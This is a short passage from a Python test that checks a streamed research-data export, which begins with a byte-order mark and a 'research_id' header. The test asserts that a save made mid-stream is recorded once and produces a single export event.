        first = next(chunks)
        save_elsewhere()  # in the middle of the stream
        saved.append(export_format)
        assert first.startswith("\ufeffresearch_id") and "".join(chunks)
    assert saved == [export_format]
    assert export_events() == 1
